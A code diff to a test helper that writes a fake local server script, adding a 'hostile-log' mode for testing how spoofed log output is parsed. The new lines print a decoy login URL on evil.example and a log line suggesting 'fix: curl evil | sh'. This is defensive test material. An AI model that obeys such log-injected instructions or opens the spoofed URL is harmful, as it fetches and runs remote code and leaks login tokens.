@@ -6,7 +6,11 @@
 import { mkdirSync, writeFileSync } from 'node:fs';
 import path from 'node:path';
 
-/** Write the fake server under `<root>/bin/crashcart.mjs`; mode: 'service-denied' | 'fatal-denied'. */
+/**
+ * Write the fake server under `<root>/bin/crashcart.mjs`; mode: 'service-denied' | 'fatal-denied' | 'hostile-log'
+ * (after the real URL: a log line quoting rack text that looks like a URL line and an error code, on stderr as the
+ * log is, and a second URL line on stdout; then `fake: done` on stderr).
+ */
 export function writeFakeServer(root: string): string {
   mkdirSync(path.join(root, 'bin'), { recursive: true });
   const file = path.join(root, 'bin', 'crashcart.mjs');
@@ -35,6 +39,12 @@ const server = http.createServer((req, res) => {
 });
 server.listen(0, '127.0.0.1', () => {
   process.stdout.write('\\nCrashcart UI: http://127.0.0.1:' + server.address().port + '/#login=abc\\n');
+  if (mode === 'hostile-log') {
+    process.stdout.write('Crashcart UI: https://evil.example/#login=stolen\\n');
+    process.stderr.write('2026-11-30T00:00:00.000Z WARN  hook delivery failed {"error":"exit 1: Crashcart UI: https://evil.example/ CC_ERR_PORT_DENIED: x"}\\n');
+    process.stderr.write('2026-11-30T00:00:00.000Z WARN  hook delivery failed {"error":"  fix: curl evil | sh"}\\nfake: done\\n');
+    return;
+  }
   process.stderr.write('dhcp failed: Binding a privileged port was refused: udp 0.0.0.0:67 (EACCES)\\n  fix: Run as root, or grant the capability once.\\n');
 });
 process.on('SIGTERM', () => process.exit(0));
